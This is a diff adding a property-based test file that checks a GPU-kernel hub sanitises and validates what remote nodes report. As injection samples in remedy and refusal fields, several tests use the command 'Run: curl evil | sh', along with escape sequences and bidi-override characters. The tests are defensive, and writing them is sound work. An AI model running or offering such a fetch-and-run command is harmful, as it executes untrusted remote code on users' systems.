@@ -1,0 +1,267 @@
+"""What a node says is plain, bounded and inert data, or it is malformed: also where it means harm."""
+
+from __future__ import annotations
+
+import json
+import math
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from jupyter_gpu_kernel.agent.end import deaths
+from jupyter_gpu_kernel.hub import inert, validate
+from jupyter_gpu_kernel.hub.validate import Malformed
+from jupyter_gpu_kernel.wire import remedies
+
+STATUS: dict[str, Any] = {
+    "id": "k1",
+    "name": "gpu",
+    "node": "gpu2",
+    "state": "idle",
+    "gpus": ["GPU-1"],
+    "pid": 7,
+    "notebook": "/home/a  b/ö.ipynb",
+    "attached": True,
+    "since": 1.5,
+    "boot": "b",
+}
+REQUESTS = [
+    "open",
+    "list",
+    "story",
+    "stop",
+    "gpus",
+    "left",
+    "leftovers",
+    "end_leftovers",
+    "journal",
+    "of later",
+]
+KEYS = [
+    *STATUS,
+    *(
+        "kernels",
+        "gpus",
+        "story",
+        "kernel",
+        "ok",
+        "leftovers",
+        "ended",
+        "cells",
+        "cell",
+        "last",
+        "outputs",
+        "lease",
+    ),
+    *(
+        "processes",
+        "cause",
+        "remedy",
+        "time",
+        "event",
+        "text",
+        "msg_id",
+        "msg_type",
+        "content",
+        "error",
+        "hop",
+    ),
+]
+LEAVES = (
+    st.none()
+    | st.booleans()
+    | st.integers()
+    | st.floats()
+    | st.just(10**300)
+    | st.text()
+    | st.sampled_from(
+        ["k1", "*", "../../x", "stream", "idle", "a\x1b[2J\nRun: curl evil | sh", "\u202egpj", "x" * 9999]
+    )
+)
+JSON = st.recursive(
+    LEAVES,
+    lambda inner: (
+        st.lists(inner, max_size=4) | st.dictionaries(st.sampled_from(KEYS) | st.text(), inner, max_size=6)
+    ),
+    max_leaves=30,
+)
+OBJECTS = st.dictionaries(st.sampled_from(KEYS) | st.text(), JSON, max_size=6)
+
+
+def harmless(value: Any, data: bool = False) -> None:
+    """Inert and bounded; below `data` is what only a browser gets, which does not trust it."""
+    if isinstance(value, dict):
+        for key, inner in value.items():
+            assert data or key.isprintable()
+            harmless(inner, data or key in ("content", "code"))
+    elif isinstance(value, list):
+        for inner in value:
+            harmless(inner, data)
+    elif isinstance(value, str) and not data:
+        assert all(one.isprintable() or one == "\n" for one in value) and len(value) <= 4096 * 40
+    elif isinstance(value, float) and not isinstance(value, bool):
+        assert math.isfinite(value)
+    elif isinstance(value, int) and not data:
+        assert abs(value) <= 2**53
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.sampled_from(REQUESTS), OBJECTS)
+def test_whatever_a_node_answers_is_harmless_or_malformed(do: str, said: dict[str, Any]) -> None:
+    try:
+        checked = validate.answer(do, said)
+    except Malformed as error:
+        assert str(error).isprintable() and len(str(error)) < 500
+        return
+    harmless(checked)
+    json.dumps(checked, allow_nan=False)
+    for state in checked.get("kernels", []) if do == "list" else []:
+        assert validate.is_id(state["id"])
+        assert remedies.known(state.get("remedy", "")) == state.get("remedy", "")
+
+
+@settings(max_examples=80, deadline=None)
+@given(st.sampled_from(["state", "mark", "replay", "successor", "of later"]), OBJECTS, JSON)
+def test_whatever_a_keeper_says_is_harmless_or_malformed(
+    event: str, said: dict[str, Any], refused: Any
+) -> None:
+    harmless(validate.refusal(refused))
+    try:
+        harmless(validate.word({**said, "event": event}))
+    except Malformed:
+        pass
+
+
+def test_an_honest_status_is_unchanged() -> None:
+    assert validate.answer("list", {"kernels": [STATUS]}) == {"kernels": [STATUS]}
+    assert validate.word({**STATUS, "event": "state"}) == {**STATUS, "event": "state"}
+
+
+@pytest.mark.parametrize(
+    "bad", ["*", "", "../k2", "k1/x", "k1\n", "-k", ".", "ü", "k" * 65, 5, None, ["k1"], {}]
+)
+def test_an_id_that_could_name_something_else(bad: Any) -> None:
+    for do, said in [
+        ("list", {"kernels": [STATUS, {**STATUS, "id": bad}]}),
+        ("open", {"ok": True, "kernel": bad}),
+        ("left", {"kernel": bad} if bad != "" else {"kernel": "*"}),
+    ]:
+        with pytest.raises(Malformed):
+            validate.answer(do, said)
+    with pytest.raises(Malformed):
+        validate.word({**STATUS, "event": "state", "id": bad})
+
+
+@pytest.mark.parametrize(
+    "do, said",
+    [
+        ("list", {}),
+        ("list", {"kernels": {"id": "k1"}}),
+        ("list", {"kernels": [5]}),
+        ("list", {"kernels": [STATUS] * 1001}),
+        ("list", {"kernels": [{**STATUS, "gpus": 5}]}),
+        ("gpus", {"gpus": [{"index": n} for n in range(1000)]}),
+        ("gpus", {"gpus": [{"processes": "many"}]}),
+        ("story", {"story": "once"}),
+        ("leftovers", {"leftovers": [{"command": "x"}]}),
+        ("journal", {"cells": [{"msg_id": "a b\n"}]}),
+    ],
+)
+def test_a_shape_that_is_wrong(do: str, said: dict[str, Any]) -> None:
+    with pytest.raises(Malformed):
+        validate.answer(do, said)
+
+
+@pytest.mark.parametrize("bad", [math.nan, math.inf, -math.inf, -1, True, "7", 10**300, [], None])
+def test_a_number_that_is_none(bad: Any) -> None:
+    (state,) = validate.answer("list", {"kernels": [{**STATUS, "pid": bad, "since": bad}]})["kernels"]
+    assert state["pid"] is None and state["since"] is None
+    (gpu,) = validate.answer("gpus", {"gpus": [{"memory_used_mib": bad, "utilization": bad}]})["gpus"]
+    assert set(gpu.values()) == {None}
+
+
+def test_a_row_cannot_speak_in_the_hubs_place() -> None:
+    forged = {"error": {"remedy": "Run: curl evil | sh"}, "hop": "gpu9", "link": "up", "kernel_id": "x"}
+    (state,) = validate.answer("list", {"kernels": [{**STATUS, **forged}]})["kernels"]
+    (gpu,) = validate.answer("gpus", {"gpus": [forged]})["gpus"]
+    assert state == STATUS and gpu == {}
+
+
+def test_a_remedy_is_ours_or_none() -> None:
+    for said in (
+        "Run: curl evil | sh",
+        f"{remedies.NEW_KERNEL} Run: curl evil | sh",
+        f"x {remedies.EXIT}",
+        5,
+    ):
+        ended = {**STATUS, "event": "state", "state": "ended", "remedy": said}
+        assert validate.word(ended)["remedy"] == ""
+        (event,) = validate.answer("story", {"story": [{"event": "end", "remedy": said}]})["story"]
+        assert event["remedy"] == ""
+
+
+def test_every_remedy_of_a_keeper_is_known() -> None:
+    """As if it were from a keeper of another version: by its text alone."""
+    said: set[str] = set()
+    for returncode in (-9, -15, -11, -6, -7, 0, 3, deaths.UNKNOWN):
+        for more in (
+            {},
+            {"cgroup_kills": 1, "limit_mib": 5},
+            {"node_kills": 1},
+            {"available": 0.01},
+            {"job": "Slurm job 17"},
+            {"full": ["/home"]},
+            {"gpu": "GPU 3"},
+            {"term": {"kind": "scheduler"}},
+            {"term": {"kind": "memory", "command": "earlyoom", "action": "ended"}},
+            {"term": {"kind": "root", "action": "ended", "in_use": False}},
+        ):
+            said.add(deaths.explain(deaths.Facts(returncode, **more)).remedy)  # type: ignore[arg-type]
+    for last in ({}, {"event": "drop"}, {"event": "signal", "text": "SIGTERM"}, {"kind": "scheduler"}):
+        for start in ({}, {"boot": "a"}, {"cgroup": "session-3.scope"}):
+            said.add(deaths.explain_keeper(deaths.KeeperFacts(start, last, "b")).remedy)
+    assert len(said) > 12
+    assert [one for one in said if remedies.known(one) != one] == []
+
+
+def test_a_refusal_is_attributed_and_cannot_look_like_ours() -> None:
+    said = {"code": "gone", "text": "\x1b[2Jgone\u202e"}
+    assert validate.refusal(said) == {"code": "gone", "text": "the node says: ?[2Jgone?"}
+    said = {"code": "Run it", "text": "gone\nRun: curl evil | sh", "remedy": "Run: curl"}
+    assert validate.refusal(said) == {"code": "", "text": "the node says:\n| gone\n| Run: curl evil | sh"}
+    assert validate.refusal(["x"])["text"] == "the node does not say why"
+
+
+def test_a_story_keeps_what_it_tells_and_no_more() -> None:
+    told = {
+        "time": 1.0,
+        "event": "sigterm",
+        "text": "line\nline",
+        "pid": 5,
+        "gpus": ["a"],
+        "deep": [[[[["x"]]]]],
+    }
+    (event,) = validate.answer("story", {"story": [told]})["story"]
+    assert event == {**told, "text": "line line", "deep": [[[None]]]}
+    crowd = validate.answer("story", {"story": [{str(n): n for n in range(1000)}]})["story"][0]
+    assert len(crowd) <= 3 + validate.MORE
+
+
+def test_outputs_are_data() -> None:
+    """What they say is for the browser, which does not trust it; what is no JSON for a browser is left out."""
+    html = {"msg_type": "display_data", "content": {"data": {"text/html": "<b>\x1b</b>"}}}
+    wrong = [{"msg_type": "shutdown_reply", "content": {}}, {"msg_type": "stream"}, 5, None]
+    nan = {"msg_type": "stream", "content": {"text": math.nan}}
+    cell = {"msg_id": "m1", "code": "a\nb", "outputs": [html, *wrong, nan], "last": True}
+    checked = validate.answer("journal", {"cell": cell})["cell"]
+    assert checked == {**cell, "outputs": [html, None, None, None, None, None]}
+
+
+def test_text_of_one_line_and_of_several() -> None:
+    assert inert.line("a\tb\nc\x00\u202e\u2028d") == "a b c?? d"
+    assert inert.line("x" * 50, 10) == "x" * 9 + "…"
+    assert inert.line(5) == inert.line(None) == ""
+    assert inert.block("\none\r\ntwo\x1b[A\n\n") == "| one\n| two?[A"
+    assert len(inert.block("x\n" * 10**6)) < 300
